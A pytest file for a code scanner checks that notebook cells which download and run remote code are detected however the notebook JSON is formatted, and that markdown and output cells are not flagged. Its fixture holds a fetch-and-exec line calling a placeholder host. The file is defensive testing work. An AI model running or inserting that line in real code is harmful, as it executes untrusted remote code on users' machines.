"""Cells of notebooks are read as code, however their JSON is written, and a long row costs no time."""

from time import process_time

import pytest

from scoring.diff.parser import read_change
from scoring.scanners.dangerous import scan
from scoring.scanners.submission import Submission

FETCHED = "exec(requests.get('https://x.example.org/a').text)"
AS_ROWS = ['"source": [', '"import requests\\n",', f'"{FETCHED}"', "]"]
WRITTEN = {
    "rows": AS_ROWS,
    "one row": [f'"source": ["import requests\\n", "{FETCHED}"]'],
    "one text": [f'"source": "import requests\\n{FETCHED}"'],
    "after prose, its kind below": [
        '"cell_type": "markdown",',
        '"source": ["Read the data."]',
        "},",
        "{",
        *AS_ROWS,
        '"cell_type": "code"',
    ],
    "its kind on a row of its own": ['"cell_type":', '"code",', *AS_ROWS],
}


def rules(rows: list[str]) -> set[str]:
    body = "".join(f"+{row}\n" for row in rows)
    diff = f"diff --git a/n.ipynb b/n.ipynb\n--- a/n.ipynb\n+++ b/n.ipynb\n@@ -1,1 +1,{len(rows) + 1} @@\n {{\n{body}"
    return {finding.rule for finding in scan(Submission(change=read_change(diff)))}


@pytest.mark.parametrize("written", WRITTEN.values(), ids=WRITTEN)
def test_code_in_a_cell_is_found_however_the_notebook_is_written(written: list[str]) -> None:
    assert "python-run-downloaded" in rules(written)


@pytest.mark.parametrize(
    "rows",
    [
        ['"cell_type": "markdown",', *AS_ROWS],
        ['"outputs": [', "{", '"text": [', *AS_ROWS[1:]],
        ['"source": [', '"x = 1\\ud800\\n",', '"\\u0000",', '"unfinished', "]"],
    ],
    ids=["prose", "output", "no text"],
)
def test_what_a_cell_does_not_run_is_not_read_as_code(rows: list[str]) -> None:
    read = rules(rows)
    assert "python-run-downloaded" not in read


def test_the_time_of_a_row_grows_no_faster_than_its_length() -> None:
    def seconds(calls: int) -> float:
        begun = process_time()
        rules(['"source": [', '"' + "get_ipython().system('" * calls + '"'] * 20)
        return process_time() - begun

    seconds(10)
    assert seconds(800) < 40 * max(seconds(80), 0.02)
